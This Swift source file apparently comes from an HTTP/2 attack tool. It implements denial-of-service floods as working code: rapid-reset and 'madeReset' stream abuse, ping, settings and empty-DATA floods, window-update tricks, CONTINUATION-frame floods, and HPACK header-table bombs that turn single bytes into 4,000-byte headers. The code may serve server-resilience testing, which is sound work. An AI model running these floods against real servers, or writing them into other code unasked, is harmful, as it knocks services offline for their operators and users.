/// Frames that cost their sender little.
extension Attack {
    func flood(_ target: AttackTarget, _ stop: StopFlag) throws {
        let attacker = try Attacker(target, stop)
        if self == .emptyData || self == .windowUpdates { try attacker.send(Frames.headers(1, path: Frames.duplex)) }
        var stream: UInt32 = 1
        while !stop.isSet {
            var batch: [UInt8] = []
            for _ in 0..<256 {
                batch += frames(stream)
                stream += 2
            }
            try attacker.send(batch)
            try attacker.drain()
        }
    }

    private func frames(_ stream: UInt32) -> [UInt8] {
        switch self {
        case .rapidReset: Frames.headers(stream, path: Frames.unary) + Frames.reset(stream)
        case .madeReset: Frames.headers(stream, path: Frames.duplex) + Frames.window(stream, 0x7fff_ffff)
        case .pings: Frames.frame(6, 0, 0, [1, 2, 3, 4, 5, 6, 7, 8])
        case .settings: Frames.setting(4, 65_535)
        case .emptyData: Frames.data(1, [], ends: false)
        case .priorities: Frames.frame(2, 0, stream, Frames.word(0) + [16])
        case .windowUpdates: stream < 1 << 20 ? Frames.window(1, 1) : Frames.window(0, 1)
        default: Frames.frame(0xbb, 0, 0, [0])
        }
    }

    func sendHeaders(_ target: AttackTarget, _ stop: StopFlag) throws {
        let attacker = try Attacker(target, stop)
        if self == .headerBombs { try attacker.send(Frames.frame(1, 5, 1, Self.bombFuse)) }
        var stream: UInt32 = 3
        while !stop.isSet {
            switch self {
            case .continuations:
                try attacker.send(Frames.headers(stream, path: Frames.unary, flags: 0))
                for _ in 0..<100 { try attacker.send(Frames.frame(9, 0, stream, [0, 1, 120, 1, 121])) }
            case .headerBombs:
                // 62 is the newest entry of the table: 4,000 bytes for each of these.
                try attacker.send(Frames.frame(1, 5, stream, [UInt8](repeating: 0x80 | 62, count: 16_000)))
            default:
                let big = String(repeating: "x", count: 16_000)
                try attacker.send(
                    Frames.headers(stream, path: Frames.unary, flags: 1)
                        + (0..<4).flatMap { Frames.frame(9, $0 == 3 ? 4 : 0, stream, Frames.block([("x-big", big)])) })
            }
            try attacker.drain()
            stream += 2
        }
    }

    /// A request with a field that fills the table.
    private static let bombFuse =
        Frames.block(Frames.request(Frames.unary)) + [0x40] + Frames.string("x-bomb")
        + Frames.string(String(repeating: "b", count: 4_000))
}
